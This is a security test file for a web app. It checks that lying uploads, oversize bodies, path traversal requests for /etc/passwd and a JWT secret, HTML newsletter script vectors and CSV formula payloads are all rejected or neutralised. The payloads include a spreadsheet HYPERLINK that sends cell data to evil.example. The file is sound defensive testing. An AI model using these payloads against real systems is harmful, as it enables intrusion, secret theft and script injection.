/**
 * Issue 7, hostile input that is not a list query or a JSON write: files whose name or claimed
 * type lies about their bytes, files over 5 MB, multipart bodies past the caps, path traversal
 * under /uploads, HTML newsletters carrying script, and CSV formula injection. Every record form
 * with a file (each content type's from its definition, a visitor's proposal among them) gets every
 * lie; nothing is stored from any of them.
 * The counts each kind sends are printed at the end (the README copies them).
 */
import { readdirSync } from 'node:fs';
import { MAX_UPLOAD_BYTES } from '@diet/contracts/limits';
import { HTTP_ERRORS, UPLOAD } from '@diet/contracts/messages';
import { fields, HTML, JPEG, PDF, PNG } from './utils/content-fixtures';
import { createTestApp, describeApi, loginToken, type TestApp } from './utils/create-test-app';
import { withRequestId } from './utils/error-body';
import { CONTENT_TYPES } from '@diet/contracts/content-types/index';
import { contentFileForms, withReferencedRecords, type FileForm } from './utils/content-samples';

jest.setTimeout(120_000);

type Form = FileForm;

const FORMS: Form[] = contentFileForms(CONTENT_TYPES);

const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
const GIF = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(40, 1)]);
const ZIP = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(60, 2)]);
/** A PDF header over HTML: a polyglot a browser might sniff as a page. */
const POLYGLOT = Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]);

/** Name, claimed type and bytes that do not agree, or bytes no form takes. */
const LIES: [string, Buffer, string, string | undefined][] = [
  ['HTML named .png', HTML, 'x.png', 'image/png'],
  ['HTML named .pdf', HTML, 'x.pdf', 'application/pdf'],
  ['SVG with script named .png', SVG, 'x.png', 'image/png'],
  ['SVG with script, honest', SVG, 'x.svg', 'image/svg+xml'],
  ['Windows program named .pdf', EXE, 'report.pdf', 'application/pdf'],
  ['Windows program named .jpg', EXE, 'photo.jpg', 'image/jpeg'],
  ['GIF named .png', GIF, 'x.png', 'image/png'],
  ['plain zip named .docx', ZIP, 'x.docx', undefined],
  ['PDF named .png', PDF, 'scan.png', undefined],
  ['PNG named .pdf', PNG, 'scan.pdf', undefined],
  ['PDF claiming image/png', PDF, 'scan', 'image/png'],
  ['PNG claiming text/html', PNG, 'a.png', 'text/html'],
  ['JPEG named .exe', JPEG, 'a.exe', undefined],
  ['double extension .pdf.html', PDF, 'a.pdf.html', undefined],
  ['PDF header over HTML', POLYGLOT, 'a.pdf', 'application/pdf'],
  ['empty file', Buffer.alloc(0), 'empty.pdf', undefined],
  ['PDF cut short', PDF.subarray(0, 40), 'cut.pdf', undefined],
  ['PNG cut short', PNG.subarray(0, 12), 'cut.png', undefined],
];

const TRAVERSALS = [
  '/uploads/..%2F..%2Fetc%2Fpasswd',
  '/uploads/..%2Fdiet.sqlite',
  '/uploads/..%2Fjwt-secret',
  '/uploads/%2e%2e%2fjwt-secret',
  '/uploads/%2e%2e/jwt-secret',
  '/uploads/..%5Cjwt-secret',
  '/uploads/..%255Cjwt-secret',
  '/uploads/%252e%252e%252fjwt-secret',
  '/uploads/.%2e/.%2e/etc/passwd',
  '/uploads/....//....//etc/passwd',
  '/uploads/..;/jwt-secret',
  '/uploads/%00.pdf',
  '/uploads/x.pdf%00.png',
  '/uploads/.hidden',
  '/uploads/%2fetc%2fpasswd',
  '/uploads//etc/passwd',
  '/uploads/../jwt-secret',
  '/uploads/..\\jwt-secret',
];

const NEWSLETTER_VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<img src="javascript:alert(1)">',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<body onload=alert(1)>',
  '<p onclick="steal()" onmouseover="steal()">text</p>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];
/** What a sanitised newsletter never contains. */
const UNSAFE_HTML =
  /<(script|iframe|object|embed|svg|style|form|input|meta|base|link|math|body|noscript)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html|&#106;/i;

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"open")',
  "SUM(1+1)*cmd|' /C notepad'!A1",
];

describeApi('hostile files, newsletters and CSV', () => {
  let t: TestApp;
  let token: string;
  const sent = {
    uploadLies: 0,
    oversizeFiles: 0,
    multipartCaps: 0,
    traversals: 0,
    newsletterVectors: 0,
    csvFormulas: 0,
  };
  const auth = () => ({ Authorization: `Bearer ${token}` });
  const uploadsNow = () => {
    try {
      return readdirSync(t.config.uploadsDir).length;
    } catch {
      return 0;
    }
  };
  const count = async (table: string) => Number((await t.dataSource.query(`SELECT COUNT(*) AS n FROM ${table}`))[0].n);

  beforeAll(async () => {
    t = await createTestApp();
    token = await loginToken(t);
    // A corrigendum's form needs a tender that exists.
    await withReferencedRecords(
      FORMS,
      async (path, body) => (await t.http().post(path).set(auth()).send(body).expect(201)).body.data.id,
    );
  });
  afterAll(async () => {
    process.stdout.write(`hostile files sent: ${JSON.stringify(sent)}\n`);
    await t?.close();
  });

  const submit = (form: Form, file?: [Buffer, string, string | undefined]) => {
    const req = fields(
      t
        .http()
        .post(form.path)
        .set(form.admin ? auth() : {}),
      form.valid,
    );
    if (!file) return req;
    const [buf, filename, contentType] = file;
    return req.attach(form.field, buf, contentType ? { filename, contentType } : { filename });
  };

  it('refuses every lying file on every form with 400 and stores nothing', async () => {
    const before = { files: uploadsNow(), stored: await count('stored_files') };
    const accepted: string[] = [];
    for (const form of FORMS) {
      for (const [label, buf, name, type] of LIES) {
        // Study materials take office files: a zip named .docx is still no Word document.
        const res = await submit(form, [buf, name, type]);
        sent.uploadLies += 1;
        if (res.status !== 400 || ![UPLOAD.invalid, UPLOAD.invalidType].includes(res.body.message))
          accepted.push(`${form.path} ${label}: ${res.status} ${res.body.message}`);
      }
    }
    expect(accepted).toEqual([]);
    expect({ files: uploadsNow(), stored: await count('stored_files') }).toEqual(before);
    // The forms do take the truth, so the refusals above are about the lies.
    for (const form of FORMS) expect((await submit(form, [form.good[0], form.good[1], undefined])).status).toBe(201);
  });

  it("answers 413 for a file over its form's limit (5 MB for most) on every form, and stores nothing", async () => {
    const before = uploadsNow();
    for (const form of FORMS) {
      const [buf, name] = form.good;
      // Still a whole file of its kind: a PDF gets a long comment after its first line.
      const pad = Buffer.alloc(form.limit.bytes + 1, 0x20);
      const cut = buf === PDF ? PDF.indexOf('\n') + 1 : buf.length;
      const big = Buffer.concat([
        buf.subarray(0, cut),
        buf === PDF ? Buffer.concat([Buffer.from('%'), pad, Buffer.from('\n')]) : pad,
        buf.subarray(cut),
      ]);
      const res = await submit(form, [big, name, undefined]);
      sent.oversizeFiles += 1;
      expect({ path: form.path, status: res.status, body: res.body }).toEqual({
        path: form.path,
        status: 413,
        body: {
          success: false,
          statusCode: 413,
          error: form.limit.message,
          message: form.limit.message,
          details: withRequestId(),
        },
      });
    }
    expect(FORMS.filter((form) => form.limit.bytes === MAX_UPLOAD_BYTES).length).toBeGreaterThan(5);
    expect(uploadsNow()).toBe(before);
  });

  it('caps the multipart body: too many fields or a huge field answer 413; a second file or a file in another field 400', async () => {
    const form = FORMS[0];
    const table = CONTENT_TYPES.find((d) => form.path === `/api/admin/${d.path}`)!.table;
    const rowsBefore = await count(table);
    const tooManyFields = fields(
      t.http().post(form.path).set(auth()),
      Object.fromEntries(Array.from({ length: 41 }, (_, i) => [`f${i}`, 'x'])),
    );
    const hugeField = fields(t.http().post(form.path).set(auth()), {
      ...form.valid,
      title: 'x'.repeat(200 * 1024 + 1),
    });
    for (const [label, req] of [
      ['fields', tooManyFields],
      ['field size', hugeField],
    ] as const) {
      const res = await req;
      sent.multipartCaps += 1;
      expect({ label, status: res.status, message: res.body.message }).toEqual({
        label,
        status: 413,
        message: HTTP_ERRORS.payloadTooLarge,
      });
      expect(res.body).toEqual({
        success: false,
        statusCode: 413,
        error: HTTP_ERRORS.payloadTooLarge,
        message: HTTP_ERRORS.payloadTooLarge,
        details: withRequestId(),
      });
    }
    const twoFiles = await submit(form).attach(form.field, PNG, 'a.png').attach(form.field, PNG, 'b.png');
    const otherField = await submit(form).attach('elsewhere', PNG, 'a.png');
    sent.multipartCaps += 2;
    for (const res of [twoFiles, otherField])
      expect({ status: res.status, message: res.body.message }).toEqual({ status: 400, message: UPLOAD.invalid });
    expect(await count(table)).toBe(rowsBefore);
  });

  it('answers 404 to every path traversal under /uploads and reveals nothing', async () => {
    for (const path of TRAVERSALS) {
      const res = await t.http().get(path);
      sent.traversals += 1;
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
      // Neither the secret, nor the database, nor a system file; never a stack.
      expect(res.text).not.toMatch(/root:x:0|SQLite format|[A-Za-z0-9_-]{40,}|at \S+ \(/);
    }
  });

  it('sanitises every script vector out of an HTML newsletter, as stored and as the public page gets it', async () => {
    for (const vector of NEWSLETTER_VECTORS) {
      const res = await t
        .http()
        .post('/api/admin/newsletter/send')
        .set(auth())
        .send({ subject: 'Vector test', content: `<p>Safe text</p>${vector}` });
      sent.newsletterVectors += 1;
      expect(res.status).toBe(201);
      const stored = res.body.data.content as string;
      expect({ vector, unsafe: UNSAFE_HTML.exec(stored)?.[0] ?? null }).toEqual({ vector, unsafe: null });
      expect(stored).toContain('<p>Safe text</p>');
      const shown = await t.http().get(`/api/newsletter/campaigns/${res.body.data.id}`).expect(200);
      expect(UNSAFE_HTML.test(shown.body.data.html)).toBe(false);
    }
  });

  it('neutralises spreadsheet formulas in every cell of both CSV exports', async () => {
    let n = 0;
    for (const start of FORMULA_STARTS) {
      for (const payload of FORMULA_PAYLOADS) {
        const cell = `${start}${payload}`;
        n += 1;
        await t
          .http()
          .post('/api/newsletter/subscribe')
          .send({ name: cell, email: `f${n}@example.org`, type: 'Public' })
          .expect(201);
        await t
          .http()
          .post('/api/admin/diksha-lab/trainee')
          .set(auth())
          .send({
            teacherName: cell,
            employeeId: `${start}EMP-${n}`,
            totalHours: 1,
            completedCourses: 0,
            progress: 0,
            certificates: [cell],
          })
          .expect(201);
        sent.csvFormulas += 2;
      }
    }
    for (const path of ['/api/admin/newsletter/export', '/api/admin/diksha-lab/trainee/export']) {
      const csv = (await t.http().get(path).set(auth()).expect(200)).text;
      // Every field, quoted or not, must not begin with a formula character once parsed.
      const parsedCells = csv
        .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
        .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        .map((f) => (f.startsWith('"') && f.endsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f));
      const dangerous = parsedCells.filter((f) => FORMULA_STARTS.includes(f[0]));
      expect({ path, dangerous }).toEqual({ path, dangerous: [] });
      // The payloads did reach the export (text fields are trimmed, so tab and CR starts may go).
      const neutralised = parsedCells.filter((f) => f[0] === "'" && FORMULA_STARTS.includes(f[1]));
      expect(neutralised.length).toBeGreaterThanOrEqual(4 * FORMULA_PAYLOADS.length);
    }
  });
});
